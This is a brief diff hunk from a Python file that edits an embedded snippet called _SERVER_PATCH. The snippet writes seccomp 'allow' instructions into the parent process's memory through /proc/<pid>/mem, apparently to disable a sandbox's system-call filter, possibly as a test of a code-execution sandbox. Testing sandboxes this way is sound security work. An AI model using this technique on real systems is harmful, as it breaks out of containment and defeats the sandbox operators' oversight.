@@ -447,7 +447,7 @@ _SERVER_PATCH = """
 import ctypes, os, struct, sys, time
 n = input().strip()
 if n == '1':
-    buf = sys.modules['__main__'].__dict__['_bbuf']
+    buf = sys._getframe(1).f_globals['_bbuf']  # the server's globals: the frame that runs the program
     allow = struct.pack('=HBBI', 6, 0, 0, 0x7FFF0000) * (len(buf.raw) // 8)
     with open('/proc/%d/mem' % os.getppid(), 'r+b', buffering=0) as m:
         m.seek(ctypes.addressof(buf))
